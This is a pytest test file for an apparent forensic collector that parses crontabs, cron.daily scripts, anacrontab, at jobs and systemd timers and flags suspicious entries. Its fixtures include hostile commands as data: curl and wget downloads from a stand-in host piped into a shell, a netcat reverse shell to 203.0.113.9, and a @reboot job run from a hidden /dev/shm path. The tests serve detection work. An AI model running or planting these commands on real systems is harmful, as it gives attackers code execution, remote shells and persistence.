"""cron_jobs: every scheduler's format, env lines, timers, and bad lines."""

from __future__ import annotations

import json
import os

PASSWD = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
CRONTAB = (
    "# /etc/crontab\r\n"
    "SHELL=/bin/sh\r\n"
    "PATH=/tmp:/usr/bin:/bin\r\n"
    "MAILTO=\"\"\r\n"
    "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\r\n"
    "@reboot root /dev/shm/.d/run\r\n"
    "* * * * *\r\n"
    "@every5 root /bin/true\r\n"
    "5 4 * * sun root\r\n"
    "*/5 * * * * root /usr/bin/php -r 'x' " + "A" * 10_000 + "\r\n"
)


def test_system_and_user_crontabs_env_and_errors(tree, run_collect):
    root = tree({"/etc/passwd": PASSWD, "/etc/crontab": CRONTAB,
                 "/etc/cron.d/certbot": "SHELL=/bin/sh\n"
                                        "0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew\n",
                 "/var/spool/cron/crontabs/www-data": "# DO NOT EDIT\n*/5 * * * * curl -fsSL http://e.vil/u.sh | sh\n",
                 "/var/spool/cron/root": "@daily /usr/local/bin/backup.sh\n"})
    db = run_collect(root, only=["cron_jobs"])
    got = {(r["source"], r["line"]): r for r in db["cron_jobs"].rows}
    assert got[("/etc/crontab", 2)]["kind"] == "env" and json.loads(got[("/etc/crontab", 2)]["flags"]) == []
    assert json.loads(got[("/etc/crontab", 3)]["flags"]) == [
        "PATH starts with or holds a writable or hidden directory (/tmp)"]
    hourly = got[("/etc/crontab", 5)]
    assert (hourly["schedule"], hourly["user"], hourly["command"]) == (
        "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly")
    assert json.loads(hourly["env"]) == {"SHELL": "/bin/sh", "PATH": "/tmp:/usr/bin:/bin", "MAILTO": '""'}
    assert json.loads(hourly["flags"]) == []
    boot = got[("/etc/crontab", 6)]
    assert boot["schedule"] == "@reboot" and json.loads(boot["flags"]) == [
        "runs a program from a world-writable directory", "hidden path component", "runs at every boot"]
    long = got[("/etc/crontab", 10)]
    assert len(long["command"]) == 4096
    assert "command of 10020 characters (padding to hide its end?)" in json.loads(long["flags"])
    errors = {(e["path"], e["line"]): e["what"] for e in db["errors"].rows}
    assert set(errors) == {("/etc/crontab", 7), ("/etc/crontab", 8), ("/etc/crontab", 9), ("/etc/crontab", 10)}
    assert errors[("/etc/crontab", 8)] == "unknown @ schedule @every5"
    assert errors[("/etc/crontab", 9)].startswith("no command")
    www = got[("/var/spool/cron/crontabs/www-data", 2)]
    assert (www["kind"], www["user"], json.loads(www["flags"])) == (
        "user", "www-data", ["download piped into a shell or interpreter"])
    assert "crontab -r -u www-data" in www["undo"]
    rh = got[("/var/spool/cron/root", 1)]
    assert (rh["schedule"], rh["user"], rh["command"]) == ("@daily", "root", "/usr/local/bin/backup.sh")
    assert json.loads(got[("/etc/cron.d/certbot", 2)]["flags"]) == []


def test_periodic_anacron_at_and_timers(tree, run_collect):
    root = tree({
        "/etc/passwd": PASSWD,
        "/etc/cron.daily/logrotate": "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
        "/etc/cron.daily/.placeholder": "",
        "/etc/cron.daily/upd.sh": "#!/bin/sh\nwget -qO- http://e.vil/x | bash\n",
        "/etc/cron.weekly/man-db": "#!/bin/sh\nexit 0\n",
        "/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\nbad line\n",
        "/var/spool/cron/atjobs/a0000101b2b5d2": "#!/bin/sh\n# atrun uid=33 gid=33\numask 22\n"
                                                 "cd /var/www || {\n\t echo 'x' >&2\n\t exit 1\n}\n"
                                                 "${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n"
                                                 "nc -e /bin/sh 203.0.113.9 4444\nmarcinDELIMITER1\n",
        "/lib/systemd/system/apt-daily.timer": "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\n",
        "/lib/systemd/system/apt-daily.service": "[Service]\nType=oneshot\n"
                                                 "ExecStart=/usr/lib/apt/apt.systemd.daily update\n",
        "/etc/systemd/system/sync.timer": "[Timer]\nOnBootSec=1min\nUnit=helper.service\n",
        "/etc/systemd/system/helper.service": "[Service]\nExecStart=/bin/sh -c 'curl http://e.vil/x|sh'\n",
    })
    os.chmod(root / "etc/cron.daily/upd.sh", 0o755)
    os.chmod(root / "etc/cron.daily/logrotate", 0o755)
    os.makedirs(root / "etc/systemd/system/timers.target.wants")
    os.symlink("/etc/systemd/system/sync.timer", root / "etc/systemd/system/timers.target.wants/sync.timer")
    db = run_collect(root, only=["cron_jobs"])
    got = {r["source"]: r for r in db["cron_jobs"].rows if r["kind"] != "env"}
    assert json.loads(got["/etc/cron.daily/logrotate"]["flags"]) == []
    assert "/etc/cron.daily/.placeholder" not in got
    assert json.loads(got["/etc/cron.daily/upd.sh"]["flags"]) == [
        "download piped into a shell or interpreter",
        "run-parts skips this name (holds a dot or odd character): dormant"]
    assert got["/etc/cron.weekly/man-db"]["command"].endswith("(not executable: run-parts skips it)")
    assert got["/etc/anacrontab"]["schedule"] == "every 1 (delay 5 min)"
    at = got["/var/spool/cron/atjobs/a0000101b2b5d2"]
    assert (at["schedule"], at["user"], at["command"]) == ("2024-03-02T03:30:00Z", "www-data",
                                                           "nc -e /bin/sh 203.0.113.9 4444")
    assert json.loads(at["flags"]) == ["netcat or socat with a program attached"]
    assert at["undo"].startswith("atrm 1")
    apt = got["/lib/systemd/system/apt-daily.timer"]
    assert (apt["unit"], apt["schedule"], apt["command"]) == (
        "apt-daily.service", "OnCalendar=*-*-* 6,18:00", "/usr/lib/apt/apt.systemd.daily update")
    assert json.loads(apt["env"]) == {"enabled": False} and json.loads(apt["flags"]) == []
    sync = got["/etc/systemd/system/sync.timer"]
    assert sync["unit"] == "helper.service" and json.loads(sync["env"]) == {"enabled": True}
    assert json.loads(sync["flags"]) == ["download piped into a shell or interpreter"]
    assert [(e["path"], e["line"]) for e in db["errors"].rows] == [("/etc/anacrontab", 3)]
